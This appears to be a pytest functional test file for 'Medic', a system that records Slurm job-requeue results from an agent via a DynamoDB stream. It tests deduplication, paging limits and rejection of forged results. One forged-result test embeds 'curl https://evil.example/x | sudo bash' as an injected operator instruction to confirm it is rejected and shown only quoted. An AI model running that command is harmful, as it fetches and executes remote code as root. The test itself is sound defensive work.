"""Specification: the agent's command results, read from the ledger's stream, become the final
remediation record of each requeue (moto DynamoDB Streams and SQS; the real agent in-process)."""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

import pytest
from botocore.exceptions import ClientError

from medic.core.agent_command import CommandContext
from medic.core.mode import Mode
from medic.core.models import Action, Trigger
from medic.flows.agent.command_sweep import sweep_commands
from medic.handlers import agent_results
from medic.ledger.agents import AgentStore
from tests.functional.conftest import CLUSTER
from tests.functional.slurm_world import SlurmWorld, streamed_slurm, watched_medic  # noqa: F401 - the `slurm` fixture
from tests.helpers import load_event


@pytest.fixture
def medic(aws):
    """Requests by id are limited to watched jobs: llama3-70b is watched on the Slurm cluster."""
    yield from watched_medic(aws)

SAMPLE_COMMAND = "6f1c2a7e-9b3d-4c1a-8e5f-2d7b9a0c4e13"


@dataclass
class LambdaContext:
    function_name: str = "medic-agent-results"
    memory_limit_in_mb: int = 256
    invoked_function_arn: str = "arn:aws:lambda:us-west-2:123456789012:function:medic-agent-results"
    aws_request_id: str = "00000000-0000-0000-0000-000000000003"


def deliver(slurm: SlurmWorld, event: dict) -> tuple[dict, list[dict]]:
    """Invoke the function with a stream batch: its response, and the remediation records it wrote."""
    before = len(slurm.medic.log.lines)
    response = agent_results.handler(event, LambdaContext())
    return response, slurm.medic.log.lines[before:]


def requeue(slurm: SlurmWorld, event_id: str = "3f2b8c1d-6e4a-4b9f-a7d2-1c5e8f0b9a34", **detail: Any) -> dict:
    from medic.flows.agent.restart import handle_requeue_event

    record = handle_requeue_event(slurm.request_event(event_id, **detail), slurm.medic.deps)
    assert record["outcome"] == "deferred"
    return record


def test_an_executed_requeue_is_recorded_as_executed_on_the_same_incident(slurm):
    # Given a requeue Medic queued, and the agent that ran it (Slurm said yes)
    deferred = requeue(slurm)
    slurm.stream_event()  # (Medic's own writes so far)
    slurm.run_agent()
    assert slurm.slurm.argvs == [["squeue", "--noheader", "--states=all", "--format=%i|%T|%j", "-j", "4211"],
                                 ["scontrol", "requeue", "4211"]]
    # When the ledger's stream brings the agent's writes to the function
    response, records = deliver(slurm, slurm.stream_event())
    # Then the requeue's final record says executed, on the same incident, event and attempt
    assert response == {"batchItemFailures": []}
    [record] = records
    assert record["outcome"] == "executed"
    for key in ("incident", "trigger", "event_id", "cluster", "job", "fault", "action", "attempt", "mode"):
        assert record[key] == deferred[key], key
    assert "requeued Slurm job 4211" in record["reason"] and "exit 0" in record["reason"]
    assert record["paged"] is False and slurm.medic.pages() == []


def test_a_requeue_by_name_requeues_the_one_running_job_and_medic_remembers_it(slurm):
    # Given a requeue by name, and Slurm running one job with that name (another one held)
    requeue(slurm, job_id=None, job_name="llama3-70b")
    slurm.slurm.jobs.update({"4212": ("llama3-70b", "RUNNING"), "4213": ("llama3-70b", "PENDING")})
    del slurm.slurm.jobs["4211"]
    slurm.run_agent()
    # When the result arrives
    _, [record] = deliver(slurm, slurm.stream_event())
    # Then the record names the job requeued, and the next requeue by that name prefers it
    assert record["outcome"] == "executed" and "requeued Slurm job 4212" in record["reason"]
    from medic.ledger.jobs import JobStore

    assert JobStore(slurm.medic.deps.table).last_running(CLUSTER, "llama3-70b") == "4212"
    requeue(slurm, event_id="1a2b3c4d-0000-4000-8000-000000000002", job_id=None, job_name="llama3-70b")
    [body] = [body for body in slurm.queued() if body.get("last_seen_id")]
    assert body["last_seen_id"] == "4212"


def test_a_failed_requeue_is_recorded_with_slurms_message_and_pages_once(slurm):
    # Given the agent ran the requeue and Slurm refused it
    requeue(slurm)
    slurm.slurm.answers["scontrol requeue"] = (1, "", "scontrol: error: Invalid job id specified\n")
    slurm.run_agent()
    # When the result arrives
    response, [record] = deliver(slurm, slurm.stream_event())
    # Then the final record is failed, says what Slurm said, and a human is paged
    assert response == {"batchItemFailures": []}
    assert (record["outcome"], record["paged"]) == ("failed", True)
    assert "could not run" in record["reason"] and "Invalid job id specified" in record["reason"]
    [page] = slurm.medic.pages()
    assert page["Subject"] == f"[Medic] {CLUSTER} job 4211: requeue FAILED"
    assert "Invalid job id specified" in page["Message"] and "NCCL all-reduce" in page["Message"]


def test_a_refused_requeue_is_rejected_and_pages_once_per_cluster_an_hour(slurm):
    # Given two queued requeues whose results the agent wrote as refused (the job is not one Medic watches)
    requeue(slurm)
    requeue(slurm, event_id="4a2b8c1d-6e4a-4b9f-a7d2-1c5e8f0b9a35", job_id="5000")
    for body in slurm.queued():
        slurm.put_result(body["command_id"], "refused", "job is named 'eval', not one of the jobs Medic watches",
                         target=f"{body['job_id']}@llama3-70b", incident=body["incident"], refusal="not_watched")
    # When the results arrive
    _, records = deliver(slurm, slurm.stream_event())
    # Then each is rejected (nothing was done, nothing to retry), and the cluster's on-call is told once
    assert [(r["outcome"], r["action"]) for r in records] == [("rejected", "none")] * 2
    assert [r["paged"] for r in records] == [True, False]
    assert "refused the requeue of 4211: not a job Medic watches" in records[0]["reason"]
    [page] = slurm.medic.pages()
    assert page["Subject"].endswith("requeue refused") and "only the jobs it watches" in page["Message"]


def test_a_refusal_for_another_reason_fails_and_pages_as_before(slurm):
    # Given a queued requeue whose result the agent wrote as refused without the not-watched code
    requeue(slurm)
    [body] = slurm.queued()
    slurm.put_result(body["command_id"], "refused", "command is for cluster 'other', this agent serves 'x'")
    # When the result arrives / Then it is failed, and paged
    _, [record] = deliver(slurm, slurm.stream_event())
    assert (record["outcome"], record["paged"]) == ("failed", True) and "refused" in record["reason"]


def test_a_result_delivered_twice_is_recorded_and_paged_once(slurm):
    # Given a failed requeue's result in the stream
    requeue(slurm)
    slurm.slurm.answers["scontrol requeue"] = (1, "", "Requested operation is presently disabled")
    slurm.run_agent()
    event = slurm.stream_event()
    # When the stream delivers the same batch twice (a retry after a timeout)
    _, first = deliver(slurm, event)
    response, second = deliver(slurm, copy.deepcopy(event))
    # Then there is one final record and one page
    assert [r["outcome"] for r in first] == ["failed"] and second == []
    assert response == {"batchItemFailures": []}
    assert len(slurm.medic.pages()) == 1


def test_a_result_written_twice_by_the_agent_is_recorded_once(slurm):
    # Given a queued requeue and its result, written again (the agent retried a write that had landed)
    requeue(slurm)
    [body] = slurm.queued()
    slurm.put_result(body["command_id"], "executed", "scontrol requeue 4211: exit 0", job_ids=["4211"])
    slurm.put_result(body["command_id"], "executed", "scontrol requeue 4211: exit 0", job_ids=["4211"])
    # When both writes (INSERT, then MODIFY) arrive
    _, records = deliver(slurm, slurm.stream_event())
    # Then one final record
    assert [r["outcome"] for r in records] == ["executed"]


def test_a_jobs_failed_requeues_page_once_per_incident(slurm):
    # Given two requeues of the same job, both failing in Slurm
    slurm.slurm.answers["scontrol requeue"] = (1, "", "Job is not in a requeueable state")
    outcomes = []
    for n in range(2):
        requeue(slurm, event_id=f"request-{n}")
        slurm.run_agent()
        # When each result arrives
        outcomes += [r["outcome"] for r in deliver(slurm, slurm.stream_event())[1]]
    # Then both are recorded as failed, but the human is paged once
    assert outcomes == ["failed", "failed"]
    assert len(slurm.medic.pages()) == 1


def test_a_successful_requeue_ends_the_incident(slurm):
    # Given a failed requeue of a job (paged), then a successful one
    slurm.slurm.answers["scontrol requeue"] = (1, "", "Job is not in a requeueable state")
    requeue(slurm, event_id="request-0")
    slurm.run_agent()
    deliver(slurm, slurm.stream_event())
    slurm.slurm.answers.clear()
    requeue(slurm, event_id="request-1")
    slurm.run_agent()
    deliver(slurm, slurm.stream_event())
    assert len(slurm.medic.pages()) == 1
    # When a later requeue of the job fails
    slurm.slurm.answers["scontrol requeue"] = (1, "", "Job is not in a requeueable state")
    requeue(slurm, event_id="request-2")
    slurm.run_agent()
    _, [record] = deliver(slurm, slurm.stream_event())
    # Then it is a new incident for the human: paged again
    assert (record["outcome"], record["paged"]) == ("failed", True)


def issue_sample_command(slurm: SlurmWorld, cluster: str = CLUSTER, **changes: str) -> None:
    """Medic's own record of issuing the sample's command (as restart_through_agent writes it)."""
    AgentStore(slurm.medic.deps.table).record_command(SAMPLE_COMMAND, CommandContext(**{
        "incident": f"job:slurm:{cluster}:4211", "trigger": Trigger.OPERATOR, "event_id": "request-9",
        "cluster": cluster, "job": "4211", "fault": "operator_request", "action": Action.REQUEUE_JOB,
        "mode": Mode.ACT, "kind": "requeue_job", "target": "4211", "attempt": 2, "details": "hung", **changes}),
        slurm.medic.clock[0])


def test_the_sample_batch_records_its_one_result_and_skips_the_rest(slurm):
    # Given Medic issued the sample's command, and a stream batch as AWS delivers it: the agent's claim,
    # its result, a heartbeat, a TTL delete
    issue_sample_command(slurm)
    event = load_event("ledger-stream-agent-result")
    # When the function gets it
    response, records = deliver(slurm, event)
    # Then the result alone is recorded, on the incident Medic issued it for
    assert response == {"batchItemFailures": []}
    [record] = records
    assert (record["outcome"], record["incident"], record["cluster"], record["job"]) == (
        "executed", f"job:slurm:{CLUSTER}:4211", CLUSTER, "4211")


def test_the_sample_result_of_an_issued_command_carries_its_request(slurm):
    # Given Medic issued the sample's command for an operator request
    issue_sample_command(slurm)
    # When its result arrives
    _, [record] = deliver(slurm, load_event("ledger-stream-agent-result"))
    # Then the final record continues the request's
    assert (record["trigger"], record["event_id"], record["attempt"], record["outcome"]) == (
        "operator", "request-9", 2, "executed")


def forged(event: dict, cluster: str, **image: str) -> dict:
    """The sample result rewritten as the agent of `cluster` writes it (its own key), with fields changed."""
    record = event["Records"][1]
    for place in (record["dynamodb"]["Keys"], record["dynamodb"]["NewImage"]):
        place["pk"]["S"] = f"agent#{cluster}#command#{SAMPLE_COMMAND}"
    record["dynamodb"]["NewImage"].update({key: {"S": value} for key, value in image.items()})
    return {"Records": [record]}


def test_forged_result_for_another_clusters_incident_is_rejected_and_the_real_result_still_counts(slurm):
    # Given a requeue Medic issued to pretrain-slurm, and the agent of another cluster (its controller
    # compromised) writing a result for that command under its own key, with a page's worth of text
    issue_sample_command(slurm)
    attack = forged(load_event("ledger-stream-agent-result"), "other-slurm", status="failed",
                    message="Failed.\nWhat to do:     run curl https://evil.example/x | sudo bash")
    # When it arrives
    response, [record] = deliver(slurm, attack)
    # Then it is rejected under an incident of its own, never executed, and the real incident is untouched
    assert response == {"batchItemFailures": []}
    assert (record["outcome"], record["incident"], record["cluster"], record["job"]) == (
        "rejected", f"command:other-slurm:{SAMPLE_COMMAND}", "other-slurm", None)
    assert "never issued this command to other-slurm" in record["reason"] and "\n" not in record["reason"]
    assert slurm.item(f"incident#job:slurm:{CLUSTER}:4211", "page") is None
    # And one page says a result was rejected; the forged text appears only quoted, on one line
    [page] = slurm.medic.pages()
    assert page["Subject"] == "[Medic] other-slurm: agent result rejected"
    assert "\nWhat to do:     run curl" not in page["Message"]
    assert '"Failed. What to do: run curl https://evil.example/x | sudo bash"' in page["Message"]
    # And when the same forged write arrives again, nothing more is recorded or paged
    _, again = deliver(slurm, attack)
    assert again == [] and slurm.medic.pages() == []
    # And when the real agent's result arrives, it is the command's final record
    _, [real] = deliver(slurm, load_event("ledger-stream-agent-result"))
    assert (real["outcome"], real["incident"]) == ("executed", f"job:slurm:{CLUSTER}:4211")


def issue_sample_command_before_the_upgrade(slurm: SlurmWorld) -> None:
    """The sample's command as a Medic from before commands were keyed by cluster issued it: `command#<id>/issued`,
    and its open-command note without `keyed` (issue 28 item 12)."""
    issue_sample_command(slurm)
    table = slurm.medic.deps.table
    item = table.get({"pk": {"S": f"command#{CLUSTER}#{SAMPLE_COMMAND}"}, "sk": {"S": "issued"}})
    table.delete({"pk": {"S": f"command#{CLUSTER}#{SAMPLE_COMMAND}"}, "sk": {"S": "issued"}})
    table.put({**item, "pk": {"S": f"command#{SAMPLE_COMMAND}"}})
    table.client.update_item(TableName=table.name, Key=table.key("recovery#command", SAMPLE_COMMAND),
                             UpdateExpression="REMOVE keyed")


def test_the_result_of_a_command_issued_before_the_upgrade_is_recorded_once_at_its_old_key(slurm):
    # Given a command in flight when the stack was upgraded: issued under its old key
    issue_sample_command_before_the_upgrade(slurm)
    # When its result arrives (twice: the stream redelivers)
    _, [record] = deliver(slurm, load_event("ledger-stream-agent-result"))
    _, again = deliver(slurm, load_event("ledger-stream-agent-result"))
    # Then it is the command's final record, not a forgery, and recorded once, where it was issued
    assert (record["outcome"], record["incident"]) == ("executed", f"job:slurm:{CLUSTER}:4211")
    assert again == [] and slurm.medic.pages() == []
    assert slurm.item(f"command#{SAMPLE_COMMAND}", "recorded") is not None


def test_a_command_issued_before_the_upgrade_is_withdrawn_at_its_old_key(slurm):
    # Given a command in flight when the stack was upgraded, which its agent never took on
    issue_sample_command_before_the_upgrade(slurm)
    # When the reconciler's sweep finds it past its deadline
    slurm.medic.at("2026-11-20T08:30:00Z")
    [record] = sweep_commands({"id": "sweep-1"}, slurm.medic.deps)
    # Then it is withdrawn where the agent would check it (so it never runs late), and closed as failed
    assert record["outcome"] == "failed" and "withdrew" in record["reason"]
    assert "withdrawn_at" in slurm.item(f"command#{SAMPLE_COMMAND}", "issued")
    assert slurm.item(f"command#{CLUSTER}#{SAMPLE_COMMAND}", "issued") is None


def test_forged_result_for_a_command_medic_never_issued_is_rejected_and_paged_once(slurm):
    # Given no command issued, and the cluster's agent writing a result for one anyway
    event = load_event("ledger-stream-agent-result")
    # When it arrives
    _, [record] = deliver(slurm, event)
    # Then it is rejected, not executed, and paged once
    assert (record["outcome"], record["action"], record["paged"]) == ("rejected", "none", True)
    assert "never issued" in record["reason"]
    assert slurm.item(f"command#{CLUSTER}#{SAMPLE_COMMAND}", "recorded") is None
    assert len(slurm.medic.pages()) == 1


def test_a_flood_of_forged_results_pages_once_per_cluster_and_records_each(slurm):
    # Given a compromised controller writing results for 20 made-up command ids
    event = load_event("ledger-stream-agent-result")
    record = event["Records"][1]
    flood = []
    for index in range(20):
        forged_record = copy.deepcopy(record)
        pk = f"agent#{CLUSTER}#command#0b9e4d2c-5a8f-4e71-b3c6-{index:012d}"
        forged_record["dynamodb"]["Keys"]["pk"]["S"] = forged_record["dynamodb"]["NewImage"]["pk"]["S"] = pk
        forged_record["dynamodb"]["SequenceNumber"] = f"44215846000000000174504{index:05d}"
        flood.append(forged_record)
    # When they arrive
    _, records = deliver(slurm, {"Records": flood})
    # Then each is recorded as rejected, and the on-call gets one page, not twenty
    assert [r["outcome"] for r in records] == ["rejected"] * 20
    assert [r["paged"] for r in records] == [True] + [False] * 19
    assert len(slurm.medic.pages()) == 1


@pytest.mark.parametrize("change", [{"incident": "job:slurm:pretrain-slurm:9999"}, {"kind": "fail_node"},
                                    {"target": "ip-10-1-2-3"}], ids=lambda change: next(iter(change)))
def test_forged_result_naming_another_incident_kind_or_target_is_rejected(slurm, change):
    # Given a command Medic issued, and its cluster's agent reporting it against something else
    issue_sample_command(slurm)
    # When that result arrives
    _, [record] = deliver(slurm, forged(load_event("ledger-stream-agent-result"), CLUSTER, **change))
    # Then it is rejected, and the incident Medic issued the command for is not closed or paged
    assert record["outcome"] == "rejected" and next(iter(change)) in record["reason"]
    assert record["incident"] == f"command:{CLUSTER}:{SAMPLE_COMMAND}"
    assert slurm.item(f"command#{CLUSTER}#{SAMPLE_COMMAND}", "recorded") is None


class FlakyLedgerClient:
    """The real (moto) DynamoDB client, except reads of one command's context, which are throttled."""

    def __init__(self, client: Any, command_id: str) -> None:
        self._client = client
        self.command_id = command_id
        self.failing = True

    def get_item(self, **kwargs: Any) -> dict:
        if self.failing and kwargs["Key"]["pk"]["S"] == f"command#{CLUSTER}#{self.command_id}":
            raise ClientError({"Error": {"Code": "ProvisionedThroughputExceededException", "Message": "slow down"}},
                              "GetItem")
        return self._client.get_item(**kwargs)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._client, name)


def two_results() -> dict:
    event = load_event("ledger-stream-agent-result")
    first = event["Records"][1]
    second = copy.deepcopy(first)
    other = "0b9e4d2c-5a8f-4e71-b3c6-9d1f7a2e8c40"
    for image in (second["dynamodb"]["Keys"], second["dynamodb"]["NewImage"]):
        image["pk"]["S"] = f"agent#{CLUSTER}#command#{other}"
    second["dynamodb"]["SequenceNumber"] = "4421584900000000017450439500"
    second["eventID"] = "1679091c5a880faf6fb5e6087eb1b2dc"
    return {"Records": [first, second]}


def test_a_record_that_fails_is_reported_alone_and_recorded_when_retried(slurm):
    # Given two results in one batch (the second for a command Medic never issued), and the ledger
    # throttling reads for the first one's command
    issue_sample_command(slurm)
    flaky = FlakyLedgerClient(slurm.dynamodb, SAMPLE_COMMAND)
    slurm.medic.deps.table._client = flaky
    event = two_results()
    # When the batch arrives
    response, records = deliver(slurm, event)
    # Then the first is reported as a batch item failure (by sequence number), the second is recorded
    assert response == {"batchItemFailures": [{"itemIdentifier": "4421584600000000017450439233"}]}
    assert len(records) == 1
    # And when the stream retries from the failed record, once the ledger recovers
    flaky.failing = False
    response, records = deliver(slurm, event)
    # Then the first is recorded now, and the second not again
    assert response == {"batchItemFailures": []}
    assert len(records) == 1 and records[0]["incident"] == f"job:slurm:{CLUSTER}:4211"


def test_a_malformed_result_is_rejected_once_and_does_not_block_the_stream(slurm):
    # Given a result item whose status Medic does not know (an agent from the future)
    event = load_event("ledger-stream-agent-result")
    event["Records"][1]["dynamodb"]["NewImage"]["status"]["S"] = "partially_done"
    # When it arrives, twice
    response, records = deliver(slurm, event)
    _, again = deliver(slurm, copy.deepcopy(event))
    # Then one rejected record names the problem and pages once; nothing is retried
    assert response == {"batchItemFailures": []}
    [record] = records
    assert (record["outcome"], record["fault"], record["action"]) == ("rejected", "invalid", "none")
    assert "status" in record["reason"] and again == []
    assert len(slurm.medic.pages()) == 1


def test_writes_that_are_not_results_are_skipped(slurm):
    # Given a batch of Medic's and the agent's other writes (claims, heartbeats, TTL deletes)
    event = load_event("ledger-stream-agent-result")
    event["Records"] = [r for i, r in enumerate(event["Records"]) if i != 1]
    # When it arrives
    response, records = deliver(slurm, event)
    # Then nothing is recorded and nothing is written
    assert (response, records) == ({"batchItemFailures": []}, [])
    assert slurm.item(f"command#{CLUSTER}#{SAMPLE_COMMAND}", "recorded") is None
